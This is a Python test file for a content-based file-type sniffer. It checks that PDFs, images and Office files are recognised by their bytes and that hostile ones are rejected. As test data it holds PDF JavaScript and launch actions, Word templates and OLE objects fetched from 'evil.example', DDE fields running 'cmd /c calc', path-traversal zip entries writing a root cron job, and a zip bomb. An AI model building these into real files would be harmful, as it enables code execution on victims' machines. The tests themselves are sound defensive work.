"""Types by content: the name a file came with never decides what it is."""

from __future__ import annotations

import pytest

from duban.services.filetypes import sniff
from tests import filesamples as s


@pytest.mark.parametrize(("content", "key"), [
    (s.PDF, "pdf"),
    (b"\r\n  " + s.PDF, "pdf"),
    (s.JPEG, "jpeg"),
    (s.png(), "png"),
    (s.ooxml(), "docx"),
    (s.xlsx(), "xlsx"),
    (s.ole("WordDocument"), "doc"),
    (s.ole("Workbook"), "xls"),
])
def test_each_type_is_recognised_by_its_bytes(content: bytes, key: str) -> None:
    found = sniff(content)
    assert found is not None and found.key == key


@pytest.mark.parametrize("content", [
    s.EXE,
    s.HTML,
    b"",
    b"%PD",
    s.plain_zip(),
    s.ooxml(s.DOCM_MAIN),  # macro-enabled Word
    s.ooxml(extra={"word/vbaProject.bin": b"\x00" * 10}),
    s.ooxml("application/xml"),  # a zip that declares no Office main part
    s.ole("WordDocument") + "Macros".encode("utf-16-le"),
    s.ole("Nothing"),
    b"PK\x03\x04" + b"\x00" * 100,  # a broken zip
])
def test_what_is_not_a_taken_type_is_not_recognised(content: bytes) -> None:
    assert sniff(content) is None


def test_a_pdf_that_only_mentions_javascript_in_its_text_is_a_pdf() -> None:
    found = sniff(s.letter_pdf())
    assert found is not None and found.key == "pdf"


@pytest.mark.parametrize("content", [
    s.pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    s.pdf_with(b"/Names << /JavaScript 5 0 R >>", b"<< /Names [(a) << /S /JavaScript /JS 6 0 R >>] >>"),
    s.pdf_with(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),  # names spelled in hex
    s.pdf_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),  # no blanks between the tokens
    s.pdf_with(b"/Names << /EmbeddedFiles 5 0 R >>", b"<< /Type /EmbeddedFile >>"),
    s.pdf_with(b"/AcroForm << /Fields [] /XFA 5 0 R >>"),
    s.pdf_with(b"/OpenAction << /S /RichMedia >>"),
    s.pdf_in_object_stream(b"<< /S /JavaScript /JS (app.alert(1)) >>"),  # hidden in a compressed object
    s.pdf_in_object_stream(b"<< /S /JavaScript /JS (x) >>", type_entry=b"/Type%\r/ObjStm"),  # a comment
    s.pdf_with(b"", s.stream(b"6 0 << /S /JavaScript >>", b"/Type /ObjStm /Filter /ASCIIHexDecode",
                             deflate=False)),  # an object stream that cannot be read is not trusted
])
def test_a_pdf_that_runs_code_or_carries_files_is_not_taken(content: bytes) -> None:
    """Like a macro in an Office file: a script or a launch runs when the PDF is opened, and an
    embedded file is a second file that was never checked."""
    assert sniff(content) is None


@pytest.mark.parametrize("content", [
    b"\x89PNG\r\n\x1a\n",  # the signature and nothing else
    s.png()[:-12],  # cut before its end
    s.png_with(s.HTML),  # a second file after the image's end (a polyglot)
    s.png_with(s.plain_zip()),
    b"\xff\xd8\xff",
    s.JPEG[:-2],  # cut before its end marker
])
def test_an_image_cut_short_or_with_another_file_behind_it_is_not_taken(content: bytes) -> None:
    assert sniff(content) is None


@pytest.mark.parametrize("entries", [
    [("[Content_Types].xml", s.manifest()), ("../../etc/cron.d/x", b"* * * * * root sh")],
    [("[Content_Types].xml", s.manifest()), ("/etc/passwd", b"root")],
    [("[Content_Types].xml", s.manifest()), ("word\\..\\..\\x.bat", b"calc")],
    [("[Content_Types].xml", s.manifest()), ("[Content_Types].xml", s.manifest())],  # which one counts?
    [("[Content_Types].xml", s.manifest()), ("word/document.xml", b"<w:document/>"),
     ("word/media/bomb.xml", b"0" * (40 * 1024 * 1024))],  # 40 MB in some 40 KB: a zip bomb
    [("[Content_Types].xml", s.manifest("application/vnd.ms-excel.macrosheet+xml"))],  # Excel 4.0 macros
    [("[Content_Types].xml", s.manifest("application/vnd.ms-excel.intlmacrosheet+xml"))],
])
def test_an_office_file_with_hostile_parts_is_not_taken(entries: list[tuple[str, bytes]]) -> None:
    assert sniff(s.zipped(entries)) is None


def test_an_office_file_with_a_web_link_and_ordinary_fields_is_taken() -> None:
    content = s.docx_with(
        ("word/document.xml", s.document(s.field(" PAGE ") + s.field(" HYPERLINK ", '"hidden" '))),
        ("word/_rels/document.xml.rels", s.rels(("hyperlink", "http://www.gansu.gov.cn/", "External"))))
    found = sniff(content)
    assert found is not None and found.key == "docx"
    book = b"<externalLink><externalBook/></externalLink>"  # a link to another workbook's cells
    linked = s.xlsx_with(("xl/externalLinks/externalLink1.xml", book),
                         overrides=f'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                                   f'ContentType="{s.EXTERNAL_LINK}"/>')
    found = sniff(linked)
    assert found is not None and found.key == "xlsx"


@pytest.mark.parametrize("content", [
    # A template fetched from elsewhere when opened, and run (macros and all): template injection.
    s.docx_with(("word/_rels/settings.xml.rels",
                 s.rels(("attachedTemplate", "http://evil.example/t.dotm", "External")))),
    # A remote OLE object (CVE-2017-0199), its mode spelled with an XML entity.
    s.docx_with(("word/_rels/document.xml.rels",
                 s.rels(("oleObject", "http://evil.example/x.hta", "Exte&#114;nal")))),
    s.docx_with(("word/_rels/webSettings.xml.rels", s.rels(("frame", "http://evil.example/", "External")))),
    # DDE fields start a program (Word asks once): whole, split over runs, lower case, simple.
    s.docx_with(("word/document.xml",
                 s.document(s.field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')))),
    s.docx_with(("word/document.xml", s.document(s.field(" DD", "EAUTO c:\\\\x.exe", ' "y"')))),
    s.docx_with(("word/footer1.xml", s.document(s.field(" dde cmd \"/c calc\" ")))),
    s.docx_with(("word/document.xml", s.document('<w:fldSimple w:instr=" &#68;DE cmd /c calc "/>'))),
    # A workbook's DDE link: =cmd|' /C calc'!A0 saved by Excel.
    s.xlsx_with(("xl/externalLinks/externalLink1.xml",
                 b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>'),
                overrides=f'<Override PartName="/xl/externalLinks/externalLink1.xml" '
                          f'ContentType="{s.EXTERNAL_LINK}"/>'),
])
def test_an_office_file_that_fetches_or_starts_a_program_when_opened_is_not_taken(content: bytes) -> None:
    """No macro needed: a remote template or object, or a DDE field, runs code all the same."""
    assert sniff(content) is None


@pytest.mark.parametrize("content", [
    # A packaged file (Ole10Native: any program, run by a double click) or an Equation Editor 3.0
    # object (CVE-2017-11882), in a legacy file or in an OOXML file's embeddings.
    s.ole("WordDocument") + "\x01Ole10Native".encode("utf-16-le"),
    s.ole("Workbook") + "Equation Native".encode("utf-16-le"),
    s.docx_with(("word/embeddings/oleObject1.bin", s.ole("\x01Ole10Native"))),
    s.docx_with(("word/embeddings/oleObject2.bin", s.ole("Equation Native"))),
])
def test_an_office_file_carrying_a_packaged_program_or_an_old_equation_is_not_taken(content: bytes) -> None:
    assert sniff(content) is None


def test_an_office_file_with_a_workbook_inside_is_taken() -> None:
    found = sniff(s.docx_with(("word/embeddings/Microsoft_Excel_Worksheet.xlsx", s.xlsx())))
    assert found is not None and found.key == "docx"


def test_a_legacy_workbook_with_an_excel_4_macro_sheet_is_not_taken() -> None:
    """Excel 4.0 macros (XLM) live in a macro sheet, not a VBA stream: Auto_Open runs them."""
    assert sniff(s.ole("Workbook") + s.boundsheet("Macro1", 1, hidden=2) + s.boundsheet("Sheet1", 0)) is None
    plain = sniff(s.ole("Workbook") + s.boundsheet("Sheet1", 0) + s.boundsheet("Chart1", 2))
    assert plain is not None and plain.key == "xls"
